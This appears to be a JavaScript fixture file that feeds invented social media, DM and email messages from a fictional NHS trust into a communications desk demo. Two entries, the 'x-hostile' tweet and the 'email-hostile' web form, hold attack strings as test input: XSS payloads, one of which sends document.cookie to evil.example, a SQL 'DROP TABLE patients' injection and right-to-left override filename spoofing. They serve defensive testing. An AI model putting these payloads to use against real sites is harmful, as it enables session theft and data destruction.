// What the demo feed (demo-feed.mjs) sends: made-up messages to a made-up trust (Northvale NHS:
// Riverside, St Cuthbert's, Elmhurst and Kingsmead hospitals, in and around Hetherby), in the mix
// a communications team really sees. Every person, number and address here is invented: phone
// numbers are from Ofcom's drama ranges (07700 900xxx, 0113 496 0xxx), NHS numbers from the 999
// test range (with a valid check digit, so they are recognised as NHS numbers), and every email
// address and link is on a reserved example domain, so nothing can reach a real person even if the
// drivers are later switched to live on a database that holds demo items.
//
// `ago` is minutes before the feed starts; replies always come after what they answer. `replyTo`
// names an earlier item by its key. The trickle (TRICKLE) is sent one at a time while the desk runs.

/** The people who write in. X and Meta ids are fixed, so a returning sender is the same contact. */
export const PEOPLE = {
  // X
  beckyh: { id: '1488201934455001', screen_name: 'BeckyHolroyd82', name: 'Becky Holroyd' },
  sam: { id: '1488201934455002', screen_name: 'sam_ellerby', name: 'Sam Ellerby' },
  jodad: { id: '1488201934455003', screen_name: 'newdad_tom', name: 'Tom Whitaker' },
  mum4: { id: '1488201934455004', screen_name: 'laurenmumof3', name: 'Lauren P' },
  colin: { id: '1488201934455005', screen_name: 'colinjmcg', name: 'Colin McGregor' },
  reporter: { id: '1488201934455006', screen_name: 'GemmaReports', name: 'Gemma Lister | BBC Look North' },
  troll: { id: '1488201934455007', screen_name: 'truthbomb_1984', name: 'Wake Up Britain' },
  cashbot: { id: '1488201934455008', screen_name: 'nurse_cash_4u', name: 'Nurse Side Hustle 💰' },
  sandra: { id: '1488201934455009', screen_name: 'sandra_w_62', name: 'Sandra Wood' },
  // The display name carries a right-to-left override, as a spoofed "exe" name would.
  hostile: { id: '1488201934455010', screen_name: 'xss_tester', name: 'Totally Normal \u202Egpj.exe' },
  gwen: { id: '1488201934455011', screen_name: 'gwenllian_ap', name: 'Gwenllian ap Rhys' },
  pete: { id: '1488201934455012', screen_name: 'PeteCarpark', name: 'Pete Sutcliffe' },
  amira: { id: '1488201934455013', screen_name: 'amira_k', name: 'Amira Khan' },
  // X direct messages
  quiet: { id: '1488201934455014', screen_name: 'quietnights_', name: 'J' },
  fracture: { id: '1488201934455015', screen_name: 'danny_boot', name: 'Danny Boothroyd' },
  naproxen: { id: '1488201934455016', screen_name: 'margaret_ellis', name: 'Margaret Ellis' },
  radio: { id: '1488201934455017', screen_name: 'chloe_fitz', name: 'Chloe Fitzpatrick' },
  runner: { id: '1488201934455018', screen_name: 'hca_runs_north', name: 'Liam - HCA at Kingsmead' },
  // Facebook (id and name as Meta sends them)
  karen: { id: '100000000001001', name: 'Karen Shaw' },
  michelle: { id: '100000000001002', name: 'Michelle Doyle' },
  graham: { id: '100000000001003', name: 'Graham Pickersgill' },
  aisha: { id: '100000000001004', name: 'Aisha Rahman' },
  brenda: { id: '100000000001005', name: 'Brenda Lowe' },
  angry: { id: '100000000001006', name: 'Steve Marsh' },
  amanda: { id: '100000000001007', name: 'Amanda Trades Forex' },
  nadia: { id: '100000000001008', name: 'Nadia Bukowski' },
  ryan: { id: '100000000001009', name: 'Ryan Hurst' },
  // Instagram (id and username as Meta sends them)
  rainbow: { id: '17841400000002001', username: 'rainbowbaby_mama' },
  glowup: { id: '17841400000002002', username: 'glowup.followers.uk' },
  lost: { id: '17841400000002003', username: 'hetherby_harriet' },
  nain: { id: '17841400000002004', username: 'cerys.bethan' },
  congrats: { id: '17841400000002005', username: 'ellie.and.baby.ted' },
  stroke: { id: '17841400000002006', username: 'mark_walks_again' },
};

/** The trust's own posts the comments are on: Facebook posts and Instagram media, per run. */
export const POSTS = {
  visiting: 'Facebook: new visiting hours from Monday',
  parking: 'Facebook: car park works at Elmhurst',
  awards: 'Facebook: staff awards night',
  maternity: 'Facebook: a tour of the new birth centre',
  babies: 'Instagram: #ElmhurstBabies',
  wayfinding: 'Instagram: finding your way around Riverside',
  campaigns: 'Instagram: awareness days this month',
};

const COMPLAINT_BODY = `Dear Sir or Madam,

I am writing to make a formal complaint about the discharge of my father, Mr Alan Fairbrother (aged 84), from Ward 9 at Riverside on Tuesday evening.

Dad was told at 2pm that he could go home, but he was not actually discharged until 9.40pm. During that time he sat in the discharge lounge in his pyjamas, was not offered an evening meal, and his 6pm Parkinson's medication was not given. By the time I collected him he was shaking so badly he could not walk to the car.

When we got home we found that his medication bag contained somebody else's inhalers, and the discharge letter said that a district nurse would visit "within 24 hours". Nobody came until Friday.

I appreciate how busy the wards are and I do not want anyone to get into trouble. The nurses on Ward 9 were kind to him. But the discharge process failed him badly, and I would like to know:

1. Why it took over seven hours to discharge him once the decision had been made.
2. Why his time-critical Parkinson's medication was missed.
3. How another patient's inhalers ended up in his bag.
4. What will be done so this does not happen to someone else.

I would be grateful for a written response.

Yours faithfully,
Diane Fairbrother`;

const MEDIA_BODY = `Hi Press Office,

I'm a health reporter at the Northvale Gazette. We've been contacted by several families who say ambulances were queued outside Riverside A&E for up to nine hours on Saturday night, with one patient waiting in the back of an ambulance for more than six hours before being handed over.

We're planning to run the story in tomorrow's paper and online this evening. Could the trust:

- confirm the longest ambulance handover time at Riverside on Saturday 
- say how many patients waited more than an hour to be handed over that night
- provide a statement in response, including anything being done to reduce handover delays this winter

Our deadline is 4pm today. If it's easier to talk it through, I'm on the number below.

Many thanks,
Ellen Marsden
Health Reporter, Northvale Gazette
0113 496 0555`;

export const INITIAL = [
  // ---- the day before: a long complaint by email, then its follow-up in the same thread ----
  { key: 'email-complaint', channel: 'email', ago: 1560, from: 'Diane Fairbrother <diane.fairbrother@example.net>', subject: "Formal complaint - my father's discharge from Ward 9, Riverside", text: COMPLAINT_BODY },
  { key: 'fb-visiting-itu', channel: 'facebook', ago: 1420, post: 'visiting', from: 'aisha', text: 'Do the new visiting hours apply to intensive care as well? My husband is in ITU at St Cuthbert\'s and we were told only 2 visitors at a time. Is that still right?' },
  { key: 'x-colonoscopy', channel: 'x', ago: 1310, user: 'colin', text: "@NorthvaleNHS I've had a text to say my colonoscopy at Kingsmead on the 14th has been moved. How do I find out the new date and time of my appointment?" },
  { key: 'ig-rainbow', channel: 'instagram', ago: 1250, post: 'babies', from: 'rainbow', text: 'Our rainbow baby was born here in March after two losses 🌈👼 the midwives and the neonatal team are actual angels. Forever grateful 😭💕' },
  { key: 'email-spam-seo', channel: 'email', ago: 1180, from: 'Kyle at RankRocket <kyle@rankrocket-seo.example>', subject: 'Get your hospital to 5 stars on Google - guaranteed!!', text: 'Hi there,\n\nI noticed your hospital has some negative Google reviews. Our reputation package removes bad reviews and adds 50 verified 5-star reviews a month, from just £199.\n\nLimited offer this week only: https://rankrocket-seo.example/offer?ref=nhs\n\nClick here to unsubscribe: https://rankrocket-seo.example/u\n\nKyle\nRankRocket SEO' },
  { key: 'fb-ward7', channel: 'facebook', ago: 1090, post: 'awards', from: 'karen', text: 'To the nurse on Ward 7 who sat with my mum on her last night in October. I never got your name but you held her hand so I could go home and sleep for an hour. Thank you doesn\'t cover it. You deserve every award going ❤️' },
  { key: 'email-complaint-followup', channel: 'email', ago: 1010, from: 'Diane Fairbrother <diane.fairbrother@example.net>', subject: "Re: Formal complaint - my father's discharge from Ward 9, Riverside", replyTo: 'email-complaint', text: 'Sorry, one more thing I forgot to include below. The district nurse who finally came on Friday said the referral had been sent to the wrong practice. Dad is registered at Beckside Surgery, not Hetherby Health Centre.\n\nDiane' },
  { key: 'fb-ward7-reply', channel: 'facebook', ago: 990, post: 'awards', from: 'michelle', replyTo: 'fb-ward7', text: 'So sorry for your loss Karen. The Ward 7 staff were amazing with my dad too, nothing was ever too much trouble 💙' },
  // ---- overnight and this morning ----
  { key: 'dm-urgent', channel: 'x_dm', ago: 640, user: 'quiet', text: "I don't really know why I'm messaging here. I was discharged from the mental health unit last week and since then I keep thinking everyone would be better off without me. I've been looking up ways to end my life tonight and I'm scared of myself." },
  { key: 'x-ae-wait', channel: 'x', ago: 560, user: 'beckyh', text: "@NorthvaleNHS 4 hours and counting in A&E at Riverside with my 80 year old mum. No water offered, no updates, she's in agony on a plastic chair. This is not acceptable." },
  { key: 'x-maternity-praise', channel: 'x', ago: 520, user: 'jodad', text: 'Massive thank you to the maternity team at Elmhurst who delivered our little girl at 3am on Tuesday. Calm, kind and funny from start to finish. Special shout out to midwife Jo 💕 @NorthvaleNHS' },
  { key: 'x-ibuprofen', channel: 'x', ago: 470, user: 'mum4', text: "@NorthvaleNHS what dose of ibuprofen can I give my 4 year old? He's got a temperature of 38.9 and the box says 5+. Can't get through to 111" },
  { key: 'fb-parking', channel: 'facebook', ago: 440, post: 'parking', from: 'graham', text: "No disabled bays free in the Elmhurst multi storey at 10am AGAIN. Drove round for 25 minutes and my wife missed her appointment. What's the point of blue badge spaces if staff park in them? Not good enough." },
  { key: 'ig-spam', channel: 'instagram', ago: 420, post: 'babies', from: 'glowup', text: '🔥🔥 Want 10k REAL followers in 24hrs?? DM us now or click the link in our bio 👉 glowup-followers.example/promo 🔥🔥' },
  { key: 'email-clinical', channel: 'email', ago: 400, from: 'Paul Denton <pauldenton54@example.com>', subject: 'Question about vitamin D after my operation', text: 'Hello,\n\nI had bariatric surgery at Kingsmead in September. What dose of vitamin D should I be taking now? The discharge letter says "as directed" but nobody directed me and the surgery is closed until Monday.\n\nThanks,\nPaul Denton' },
  { key: 'x-ae-wait-update', channel: 'x', ago: 380, user: 'beckyh', replyTo: 'x-ae-wait', text: 'Update: finally seen after 6 and a half hours. The nurses were lovely and clearly run off their feet, my complaint is with how the department is managed, not with them.' },
  { key: 'dm-fracture', channel: 'x_dm', ago: 350, user: 'fracture', text: "Hi, I've got a fracture clinic appointment at Riverside on Thursday at 10.40 but I've tested positive for covid. Can I move the appointment to next week?" },
  { key: 'fb-clinical', channel: 'facebook', ago: 320, post: 'maternity', from: 'nadia', text: 'Is it safe to take paracetamol and co-codamol together after a c-section? The leaflet they gave me on the ward is confusing and I don\'t want to take too much while breastfeeding' },
  { key: 'x-reporter', channel: 'x', ago: 290, user: 'reporter', text: "Hi @NorthvaleNHS, I'm a reporter at BBC Look North. We're hearing the maternity unit at Elmhurst closed to admissions overnight. Could your press office confirm and give us a line? Deadline 6pm" },
  { key: 'email-media', channel: 'email', ago: 270, from: 'Ellen Marsden <ellen.marsden@northvalegazette.example>', subject: 'Media enquiry: ambulance handover delays at Riverside - deadline 4pm today', text: MEDIA_BODY },
  { key: 'x-abuse', channel: 'x', ago: 250, user: 'troll', text: '@NorthvaleNHS you are a bunch of useless lying wankers. Every one of you should be sacked and I hope your families end up waiting in your shit A&E' },
  { key: 'fb-spam', channel: 'facebook', ago: 230, post: 'visiting', from: 'amanda', text: 'I made £3,000 this week working from home with Mrs Amanda\'s bitcoin investment plan!! 100% guaranteed returns 💰💰 Message her now 👉 www.amanda-trades.example/win' },
  { key: 'x-pii-phone', channel: 'x', ago: 210, user: 'sandra', text: "@NorthvaleNHS can someone please ring me back about my dad's discharge from Ward 9? I've been waiting since Monday. 07700 900482, ask for Sandra" },
  { key: 'ig-wayfinding', channel: 'instagram', ago: 195, post: 'wayfinding', from: 'lost', text: 'Which entrance do I use for the eye clinic at Riverside? Google Maps keeps sending me to the loading bay 😂' },
  { key: 'x-hostile', channel: 'x', ago: 180, user: 'hostile', text: '@NorthvaleNHS <img src=x onerror=alert(1)> <script>fetch("https://evil.example/?c="+document.cookie)</script> check your web form \u202Etxt.exe\u202C <a href="javascript:alert(2)">click</a>' },
  { key: 'fb-nhs-number', channel: 'facebook', ago: 165, post: 'visiting', from: 'brenda', text: "My granddaughter was meant to have her grommets done this month and we've heard nothing. Her NHS number is 999 012 3454, can someone check she's still on the list for an appointment?" },
  { key: 'dm-naproxen', channel: 'x_dm', ago: 150, user: 'naproxen', text: 'Is it safe to take naproxen with my blood thinners? I was started on apixaban at Riverside last month. The GP surgery is shut till Monday.' },
  { key: 'x-welsh', channel: 'x', ago: 140, user: 'gwen', text: 'Diolch o galon i staff Ward 7 yn Ysbyty Riverside am ofalu am Mam dros y penwythnos 💐🏴󠁧󠁢󠁷󠁬󠁳󠁿 Roedd pawb mor garedig. @NorthvaleNHS' },
  { key: 'ig-welsh', channel: 'instagram', ago: 130, post: 'babies', from: 'nain', text: "Bore da! Oes rhywun yn siarad Cymraeg ar y ward famolaeth yn Elmhurst? Byddai'n golygu llawer i Nain 🙏💚" },
  { key: 'email-appointment', channel: 'email', ago: 120, from: 'Rachel Oduya <rachel.oduya@example.org>', subject: 'Outpatient appointment letter - two different dates?', text: "Hello,\n\nI've received two letters for my son's ENT appointment at St Cuthbert's. One says 3rd December at 9.15 and the other says 10th December at 14.30. Which one is right? I need to book time off work.\n\nKind regards,\nRachel Oduya" },
  { key: 'fb-abuse', channel: 'facebook', ago: 110, post: 'awards', from: 'angry', text: 'Awards?? Absolute joke of a trust. Your managers are overpaid parasites, the lot of you, and you can shove your awards up your arse. Pathetic wasters.' },
  { key: 'dm-radio', channel: 'x_dm', ago: 100, user: 'radio', text: 'Hiya, does hospital radio still take requests? My nan is on Ward 22 at Riverside and she loves a bit of Dusty Springfield 😊' },
  { key: 'x-parking-cost', channel: 'x', ago: 90, user: 'pete', text: '£4.50 for an hour in the Riverside car park while visiting my grandad in palliative care. And the machine only takes coins. Shameful @NorthvaleNHS' },
  { key: 'ig-rainbow-reply', channel: 'instagram', ago: 85, post: 'babies', from: 'congrats', replyTo: 'ig-rainbow', text: 'Congratulations!! Ours was born there last year too, the team were incredible 💕' },
  { key: 'email-hostile', channel: 'email', ago: 75, from: 'Web Form <noreply@forms-relay.example>', subject: 'Feedback \u202Efdp.exe\u202C <script>alert(1)</script>', text: 'Feedback form submission:\n<img src=x onerror=alert(1)>\nName: <b>Robert\'); DROP TABLE patients;--</b>', html: '<p>Feedback form submission:</p><script>alert(document.cookie)</script><img src="x" onerror="alert(1)"><p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">Name: Robert\u202Efdp.exe\u202C</p><a href="javascript:alert(2)">Reply to Robert</a>' },
  { key: 'dm-runner', channel: 'x_dm', ago: 70, user: 'runner', text: "Hi comms team! I'm a healthcare assistant at Kingsmead and I'm running the Great North Run for the children's ward charity. Would you be up for sharing my story on your socials? 🏃‍♂️" },
  { key: 'x-visiting-children', channel: 'x', ago: 60, user: 'amira', text: "@NorthvaleNHS what are the visiting hours on the children's ward at St Cuthbert's? Can both parents stay overnight?" },
  { key: 'fb-maternity', channel: 'facebook', ago: 50, post: 'maternity', from: 'ryan', text: 'Looks brilliant. Can partners stay overnight on the postnatal ward at Elmhurst now, or is it still only until 9pm?' },
  { key: 'email-praise', channel: 'email', ago: 40, from: 'Margaret Hind <margaret.hind@example.com>', subject: 'Thank you to the team on Ward 7', text: "Dear Northvale NHS,\n\nI was a patient on Ward 7 at Riverside for nine days last month after my fall. I wanted to say a huge thank you to all the staff, especially Precious and Tomasz on nights, who were so patient with me when I was confused and frightened.\n\nThe food was better than I expected too!\n\nWith warmest wishes,\nMargaret Hind" },
  { key: 'ig-stroke', channel: 'instagram', ago: 30, post: 'campaigns', from: 'stroke', text: "I'd love to share how the stroke team at Riverside got my dad walking again for your Stroke Awareness Month posts. Who should I talk to about featuring our story?" },
  { key: 'x-pii-nhs', channel: 'x', ago: 20, user: 'colin', text: "@NorthvaleNHS still no new date for my colonoscopy. NHS number 999 765 4323 if that helps, I'd rather it was sorted" },
  { key: 'x-question', channel: 'x', ago: 8, user: 'sam', text: '@NorthvaleNHS is the Costa at Riverside main entrance open on Sundays? Visiting my dad on Ward 12 and I need caffeine ☕' },
];

/** Sent one at a time while the desk runs, over and over (each time with new ids). */
export const TRICKLE = [
  { channel: 'x', user: 'pete', text: '@NorthvaleNHS is the Riverside car park barrier broken again? Queue back to the roundabout 🙄' },
  { channel: 'facebook', post: 'visiting', from: 'ryan', text: 'What time does the pharmacy at Kingsmead close on a Saturday?' },
  { channel: 'x_dm', user: 'radio', text: 'Can I bring my assistance dog when I visit my brother on Ward 4?' },
  { channel: 'instagram', post: 'wayfinding', from: 'lost', text: 'Beautiful photo! Proud to work here 💙' },
  { channel: 'x', user: 'mum4', text: 'Shout out to the porters at St Cuthbert\'s, always smiling and always a kind word 👏 @NorthvaleNHS' },
  { channel: 'email', from: 'Jenny Clough <jenny.clough@example.net>', subject: 'Lost property - blue scarf in A&E', text: 'Hello,\n\nI think I left a blue wool scarf in the A&E waiting room at Riverside on Sunday evening. It was my late mum\'s so it means a lot. Has anyone handed it in?\n\nThank you,\nJenny' },
  { channel: 'facebook', post: 'maternity', from: 'nadia', text: 'Can I drink alcohol while taking the antibiotics they gave me in A&E?' },
  { channel: 'x', user: 'colin', text: '@NorthvaleNHS is there a way to check my physio appointment time online? Lost the letter' },
  { channel: 'instagram', post: 'campaigns', from: 'glowup', text: 'Want more customers? 💯 Cheap promo, check the link in my bio 👉 glowup-followers.example' },
  { channel: 'facebook', post: 'awards', from: 'graham', text: 'Had my knee replaced at Kingsmead last week. Brilliant from start to finish, thank you all 👍' },
  { channel: 'x', user: 'sandra', text: "Third time my dad's hearing aid appointment has been cancelled by text the night before. Not good enough @NorthvaleNHS" },
  { channel: 'x_dm', user: 'fracture', text: 'Is the free patient Wi-Fi still working? Can\'t get it to connect on Ward 10' },
  { channel: 'email', from: 'Ahmed Hussain <a.hussain@example.org>', subject: 'Volunteering enquiry', text: "Hi,\n\nI've recently retired and would like to volunteer at St Cuthbert's, maybe on the welcome desk or pushing the library trolley. How do I apply?\n\nBest wishes,\nAhmed Hussain" },
  { channel: 'x', user: 'amira', text: '@NorthvaleNHS how long is the wait at the Riverside minor injuries unit right now? My daughter sprained her wrist at netball' },
];
